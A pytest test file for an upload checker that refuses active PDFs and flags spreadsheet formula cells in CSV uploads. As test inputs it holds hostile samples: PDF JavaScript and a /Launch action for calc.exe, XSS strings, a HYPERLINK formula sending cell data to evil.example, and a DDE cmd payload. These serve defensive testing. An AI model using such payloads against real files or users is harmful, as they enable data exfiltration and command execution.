"""The file check says what it promises (issue 21, finding 10): a PDF is a PDF by its structure
and runs nothing, a CSV is a table and no HTML, a CSV that a spreadsheet would run is marked for
staff. No server: `check_upload` is plain code (the settings say the size limit)."""

from __future__ import annotations

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from adapters.papers import PDF
from domain import messages as m
from domain.errors import InvalidInput
from models.document import DocumentKind
from service.documents import CSV, check_upload
from tests.factories import sample_pdf

pytestmark = pytest.mark.usefixtures("offline")
RECORDS, PORTFOLIO = DocumentKind.PATIENT_RECORDS, DocumentKind.PORTFOLIO


def refusal(kind: DocumentKind, content: bytes) -> str:
    with pytest.raises(InvalidInput) as refused:
        check_upload(kind, "bestand", content)
    return refused.value.errors[kind.value]


def launch_calculator(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")})


def test_a_pdf_from_office_software_or_weasyprint_is_accepted() -> None:
    import weasyprint

    made = weasyprint.HTML(string="<h1>Portfolio</h1><a href='https://kp.nl'>KP</a>").write_pdf()
    for content in (sample_pdf(), made, sample_pdf(lambda w: w.encrypt("", "eigenaar"))):
        upload = check_upload(PORTFOLIO, "portfolio.pdf", content)
        assert upload.media_type == PDF and upload.filename == "portfolio.pdf"


@pytest.mark.parametrize("change", [
    lambda w: w.add_open_action(JavaScript("app.alert(1)")),
    lambda w: w.add_attachment("macro.xlsm", b"PK\x03\x04"),
    launch_calculator,
    lambda w: w.encrypt("geheim"),  # cannot be looked into, so cannot be checked
], ids=["javascript", "embedded-file", "launch-action", "password"])
def test_a_pdf_that_runs_carries_or_hides_something_is_refused(change: object) -> None:
    content = sample_pdf(change)  # type: ignore[arg-type]
    assert refusal(PORTFOLIO, content) == m.FILE_PDF_ACTIVE
    assert refusal(RECORDS, content) == m.FILE_PDF_ACTIVE


def test_html_wrapped_in_pdf_markers_is_no_pdf() -> None:
    wrapped = b"%PDF-1.4\n<html><script>alert(document.cookie)</script></html>\n%%EOF\n"
    assert refusal(PORTFOLIO, wrapped) == m.FILE_NOT_PDF
    assert refusal(RECORDS, wrapped) == m.FILE_NOT_PDF_OR_CSV
    startxref = wrapped[:-6] + b"startxref\n0\n%%EOF\n"
    assert refusal(PORTFOLIO, startxref) == m.FILE_NOT_PDF


@pytest.mark.parametrize("content", [
    b"<html><body><script>alert(1)</script>,a,b</body></html>\n",
    b"datum;code\n2025-01-01;<img src=x onerror=alert(1)>\n",
    b"datum;code\n2025-01-01;" + b"x" * 131_073 + b"\n",  # over csv's field limit
    b'datum;code\n2025-01-01;"never closed\n',
    b"datum;code\n\x002025-01-01;1000\n",
    b"alleen een zin zonder kolommen\n",
], ids=["html", "tag-in-cell", "huge-field", "unterminated-quote", "nul-byte", "one-column"])
def test_what_is_no_table_is_no_csv(content: bytes) -> None:
    assert refusal(RECORDS, content) == m.FILE_NOT_PDF_OR_CSV


def test_formula_cells_are_marked_and_numbers_are_not() -> None:
    plain = check_upload(RECORDS, "uittreksel.csv",
                         b"datum;code;uren;saldo\n2025-01-01;1000;1,5;-2\n2025-01-02;1000;+3;4.5\n"
                         b"2025-01-03;1000;< 1;kleiner dan 5 < 6\n")
    assert plain.media_type == CSV and not plain.formula_cells
    for cell in ('=HYPERLINK("http://evil.example/?x="&A1;"klik")', "+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(A1:A2)"):
        quoted = '"' + cell.replace('"', '""') + '"'
        upload = check_upload(RECORDS, "uittreksel.csv",
                              f"datum;code\n2025-01-01;{quoted}\n".encode())
        assert upload.formula_cells, cell
        assert upload.content.decode().endswith(f"{quoted}\n"), "kept as sent: it is evidence"
